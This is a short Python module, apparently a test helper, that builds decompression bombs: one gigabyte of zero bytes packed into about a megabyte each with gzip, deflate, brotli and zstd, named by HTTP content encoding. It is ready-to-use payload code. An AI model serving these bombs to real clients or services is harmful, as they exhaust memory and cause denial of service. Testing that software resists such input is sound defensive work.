"""A gigabyte of nothing, packed: a megabyte, or less. It is never whole in memory, not here either."""

from __future__ import annotations

import zlib
from collections.abc import Callable
from functools import cache
from importlib import import_module

MB = 1_000_000
NOTHING = bytes(MB)
# In megabytes.
GIGABYTE = 1_000
_GZIP = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"


@cache
def bomb(coding: str) -> bytes:
    """Give a gigabyte of nothing, packed in the way that a server calls so."""
    return _PACKERS[coding]()


def gzipped(before: bytes, megabytes: int, after: bytes = b"") -> bytes:
    """Pack some bytes, many megabytes of nothing, and some bytes, as gzip does."""
    total = zlib.crc32(before)
    for _ in range(megabytes):
        total = zlib.crc32(NOTHING, total)
    total = zlib.crc32(after, total)
    size = len(before) + megabytes * MB + len(after)
    end = total.to_bytes(4, "little") + (size % 2**32).to_bytes(4, "little")
    return _GZIP + _deflated(before, megabytes, after) + end


def _deflated(before: bytes, megabytes: int, after: bytes = b"") -> bytes:
    """Pack by deflate. A megabyte that stands by itself is packed once, and written many times."""
    packer = zlib.compressobj(wbits=-15)
    first = packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)
    one = packer.compress(NOTHING) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + one * megabytes + packer.compress(after) + packer.flush()


def _brotli() -> bytes:
    packer = import_module("brotli").Compressor(quality=1)
    parts = [packer.process(NOTHING) for _ in range(GIGABYTE)]
    return b"".join([*parts, packer.finish()])


def _zstd() -> bytes:
    import zstandard

    packer = zstandard.ZstdCompressor(level=1).compressobj()
    parts = [packer.compress(NOTHING) for _ in range(GIGABYTE)]
    return b"".join([*parts, packer.flush()])


_PACKERS: dict[str, Callable[[], bytes]] = {
    "gzip": lambda: gzipped(b"", GIGABYTE),
    "deflate": lambda: _deflated(b"", GIGABYTE),
    "br": _brotli,
    "zstd": _zstd,
}
